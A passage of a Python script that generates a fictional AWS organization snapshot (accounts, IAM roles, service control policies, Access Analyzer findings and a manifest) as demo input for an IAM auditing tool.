    a.role("old-poc-lambda-role", ago(300, 2), trust_service("lambda.amazonaws.com"),
           inline={"poc": doc(allow(["logs:CreateLogStream", "logs:PutLogEvents", "s3:GetObject"]))})
    a.role("sandbox-lambda-exec", ago(40, 5), trust_service("lambda.amazonaws.com"),
           inline={"logs": doc(allow(["logs:CreateLogStream", "logs:PutLogEvents"]))}, last_used=2)

    # PowerUserAccess was replaced by DeveloperAccess (capped by DeveloperBoundary) in March; the
    # old permission set is still provisioned here, with no assignment left (Identity Center drift).
    a.sso_role("PowerUserAccess", "8b7a6c5d4e3f2a19", datetime(2023, 1, 24, 14, 20, 0, tzinfo=timezone.utc),
               [power], last_used=1)
    developer_boundary = a.customer_policy("DeveloperBoundary", [
        (PERMISSION_SETS["DeveloperAccess"]["boundary_document"], 250, True),
    ], DEVELOPER_ACCESS_CREATED, description="Identity Center DeveloperAccess: workload services only; no IAM, no STS")
    a.sso_role("DeveloperAccess", "3e9f1a7c5b2d8e40", DEVELOPER_ACCESS_CREATED, [power], last_used=0,
               boundary=developer_boundary)
    a.service_linked_role("support.amazonaws.com", "AWSServiceRoleForSupport",
                          "aws-service-role/AWSSupportServiceRolePolicy",
                          datetime(2019, 11, 4, 13, 38, 30, tzinfo=timezone.utc))
    a.service_linked_role("trustedadvisor.amazonaws.com", "AWSServiceRoleForTrustedAdvisor",
                          "aws-service-role/AWSTrustedAdvisorServiceRolePolicy",
                          datetime(2019, 11, 4, 13, 38, 31, tzinfo=timezone.utc))

    analyzers = {
        "us-east-1": {
            "analyzers": [analyzer(DEV, "us-east-1", "sandbox-unused-access", "ACCOUNT_UNUSED_ACCESS",
                                   datetime(2024, 6, 3, 9, 0, 0, tzinfo=timezone.utc), unused_age=90)],
            "findings": [analyzer_finding("d1e2f3a4-b5c6-4d7e-8f90-a1b2c3d4e5f6",
                                          f"arn:aws:iam::{DEV}:user/test-user-2021", "AWS::IAM::User", DEV,
                                          "UnusedIAMUserPassword", ago(310, 3))],
        },
        "eu-west-1": {
            "analyzers": [analyzer(DEV, "eu-west-1", "sandbox-account-analyzer", "ACCOUNT",
                                   datetime(2024, 6, 3, 9, 5, 0, tzinfo=timezone.utc))],
            "findings": [],
        },
    }
    return a, {"PasswordPolicy": None}, analyzers, dict(root_mfa=False, root_keys=True, providers=2)


# --- the organization -----------------------------------------------------------------------

ACCOUNTS = [
    # id, name, email, status, joined, OU path
    (MGMT, "acme-management", "aws-management@acme.example", "ACTIVE", "INVITED",
     datetime(2017, 3, 2, 11, 4, 55, 512000, tzinfo=timezone.utc), [ROOT_ID]),
    (PROD, "acme-prod", "aws-prod@acme.example", "ACTIVE", "CREATED",
     datetime(2018, 6, 30, 16, 20, 9, 87000, tzinfo=timezone.utc), [ROOT_ID, OU_WORKLOADS]),
    (DEV, "acme-dev-sandbox", "aws-dev-sandbox@acme.example", "ACTIVE", "CREATED",
     datetime(2019, 11, 4, 13, 36, 58, 240000, tzinfo=timezone.utc), [ROOT_ID, OU_SANDBOX]),
    (DATA, "R&D <data-platform>", "aws-data-platform@acme.example", "ACTIVE", "INVITED",
     ago(6, 5, 12, 3).replace(microsecond=331000), [ROOT_ID, OU_WORKLOADS]),
    (LEGACY, "acme-legacy-marketing", "aws-marketing@acme.example", "SUSPENDED", "CREATED",
     datetime(2018, 2, 12, 10, 0, 1, 5000, tzinfo=timezone.utc), [ROOT_ID, OU_SUSPENDED]),
]


def org_accounts():
    """ACCOUNTS, as the organization stood (a week earlier, data-platform had not joined yet)."""
    return [a for a in ACCOUNTS if not (PREVIOUS and a[0] == DATA)]


def organization_files():
    accounts = [{
        "Id": account_id, "Arn": f"arn:aws:organizations::{MGMT}:account/{ORG_ID}/{account_id}", "Email": email,
        "Name": name, "Status": status, "State": status, "JoinedMethod": method, "JoinedTimestamp": iso_us(joined),
    } for account_id, name, email, status, method, joined, _ in org_accounts()]

    def target(target_id):
        kind = "ROOT" if target_id.startswith("r-") else "ORGANIZATIONAL_UNIT" if target_id.startswith("ou-") else "ACCOUNT"
        return {"TargetId": target_id, "Arn": target_arn(target_id), "Name": target_name(target_id), "Type": kind}

    every_node = [ROOT_ID, OU_WORKLOADS, OU_SANDBOX, OU_SUSPENDED] + [a[0] for a in org_accounts()]
    scps = [
        {"Id": "p-FullAWSAccess", "Arn": "arn:aws:organizations::aws:policy/service_control_policy/p-FullAWSAccess",
         "Name": "FullAWSAccess", "Description": "Allows access to every operation", "AwsManaged": True,
         "Content": doc(allow("*")), "Targets": [target(t) for t in every_node]},
        scp("p-2xq8d7lm", "DenyLeaveOrganization", "Member accounts cannot leave the organization",
            doc(deny("organizations:LeaveOrganization", sid="DenyLeave")), [target(ROOT_ID)]),
        scp("p-k3v9w1rt", "ProtectSecurityTooling", "CloudTrail, GuardDuty, Access Analyzer and the audit role stay on",
            doc(deny(["cloudtrail:StopLogging", "cloudtrail:DeleteTrail", "guardduty:DeleteDetector",
                      "guardduty:DisassociateFromMasterAccount", "access-analyzer:DeleteAnalyzer"],
                     sid="ProtectLogging"),
                deny(["iam:DeleteRole", "iam:UpdateAssumeRolePolicy", "iam:DetachRolePolicy"],
                     "arn:aws:iam::*:role/IamAuditorRole", sid="ProtectAuditRole",
                     condition={"ArnNotLike": {"aws:PrincipalArn": "arn:aws:iam::*:role/OrganizationAccountAccessRole"}})),
            [target(OU_WORKLOADS), target(OU_SANDBOX)]),
        scp("p-7hn2c5ya", "SandboxGuardrails", "No long-term purchases; two regions only",
            doc(deny(["ec2:PurchaseReservedInstancesOffering", "ec2:PurchaseHostReservation",
                      "savingsplans:CreateSavingsPlan", "route53domains:RegisterDomain"], sid="NoPurchases"),
                {"Sid": "TwoRegions", "Effect": "Deny",
                 "NotAction": ["iam:*", "organizations:*", "sts:*", "support:*", "route53:*", "cloudfront:*"],
                 "Resource": "*",
                 "Condition": {"StringNotEquals": {"aws:RequestedRegion": ["us-east-1", "eu-west-1"]}}}),
            [target(OU_SANDBOX)]),
        scp("p-0susp3nd", "DenyAll", "Quarantine for suspended and closing accounts",
            doc(deny("*", sid="DenyEverything")), [target(OU_SUSPENDED)]),
    ]
    return (
        {"Accounts": accounts},
        {"OrganizationId": ORG_ID, "RootId": ROOT_ID, "Policies": scps,
         "AccountPaths": {account_id: path for account_id, *_, path in org_accounts()}},
    )


def scp(policy_id, name, description, content, targets):
    return {"Id": policy_id, "Arn": f"arn:aws:organizations::{MGMT}:policy/{ORG_ID}/service_control_policy/{policy_id}",
            "Name": name, "Description": description, "AwsManaged": False, "Content": content, "Targets": targets}


def target_arn(target_id):
    if target_id.startswith("r-"):
        return f"arn:aws:organizations::{MGMT}:root/{ORG_ID}/{target_id}"
    if target_id.startswith("ou-"):
        return f"arn:aws:organizations::{MGMT}:ou/{ORG_ID}/{target_id}"
    return f"arn:aws:organizations::{MGMT}:account/{ORG_ID}/{target_id}"


def target_name(target_id):
    names = {ROOT_ID: "Root", OU_WORKLOADS: "Workloads", OU_SANDBOX: "Sandbox", OU_SUSPENDED: "Suspended"}
    return names.get(target_id) or next(a[1] for a in ACCOUNTS if a[0] == target_id)


# --- writing --------------------------------------------------------------------------------

def write_json(path, value, indent=4):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(value, indent=indent, ensure_ascii=False) + "\n", encoding="utf-8")


def main():
    global COLLECTED_AT, PREVIOUS
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path,
                        help="where to write (default: demo-org/ next to this script; with --previous, "
                             "demo-org-previous/ in the system's temporary folder)")
    parser.add_argument("--previous", action="store_true",
                        help="the organization a week earlier (collected 7 days before), for a run to compare with")
    args = parser.parse_args()
    if args.previous:
        PREVIOUS = True
        COLLECTED_AT -= timedelta(days=7)
    out = args.out or (Path(tempfile.gettempdir()) / "demo-org-previous" if args.previous
                       else Path(__file__).resolve().parent / "demo-org")
    if out.exists():
        shutil.rmtree(out)

    accounts_json, scps_json = organization_files()
    write_json(out / "organization" / "accounts.json", accounts_json)
    write_json(out / "organization" / "scps.json", scps_json)

    built = [build() for build in (management, prod, dev_sandbox)]
    check_identity_center([account for account, *_ in built])
    for name, value in identity_center_files().items():
        write_json(out / "organization" / "identity-center" / name, value)

    for account, password_policy, analyzers, summary in built:
        folder = out / "accounts" / account.id
        write_json(folder / "account-authorization-details.json", account.authorization_details())
        folder.joinpath("credential-report.csv").write_text(account.credential_report(), encoding="utf-8")
        write_json(folder / "password-policy.json", password_policy)
        write_json(folder / "account-summary.json", account.account_summary(**summary))
        for region, data in analyzers.items():
            write_json(folder / "access-analyzer" / f"{region}.json", data)

    caller = f"arn:aws:sts::{MGMT}:assumed-role/iam-auditor-task/7d1c0a2e9b4f4c3a8e5d6f7a8b9c0d1e"
    if not PREVIOUS:  # a week earlier data-platform was not in the organization
        write_json(out / "accounts" / DATA / "error.json", {
            "stage": "assume-role",
            "code": "AccessDenied",
            "message": f"User: {caller} is not authorized to perform: sts:AssumeRole on resource: "
                       f"arn:aws:iam::{DATA}:role/IamAuditorRole",
        })

    status = {DATA: ("failed", "sts:AssumeRole into IamAuditorRole was denied"),
              LEGACY: ("skipped", "account is SUSPENDED in the organization")}
    manifest = {
        "schema": "iam-auditor/snapshot/v1",
        "tool_version": "examples/make_demo_org.py",
        "collected_at": COLLECTED_AT.strftime("%Y-%m-%dT%H:%M:%SZ"),
        "caller": caller,
        "organization_id": ORG_ID,
        "regions": REGIONS,
        "accounts": [],
    }
    for account_id, name, *_ in org_accounts():
        entry = {"account_id": account_id, "name": name, "status": status.get(account_id, ("collected",))[0]}
        if account_id in status:
            entry["reason"] = status[account_id][1]
        manifest["accounts"].append(entry)
    write_json(out / "manifest.json", manifest, indent=2)
    print(f"wrote {out}")


if __name__ == "__main__":
    main()
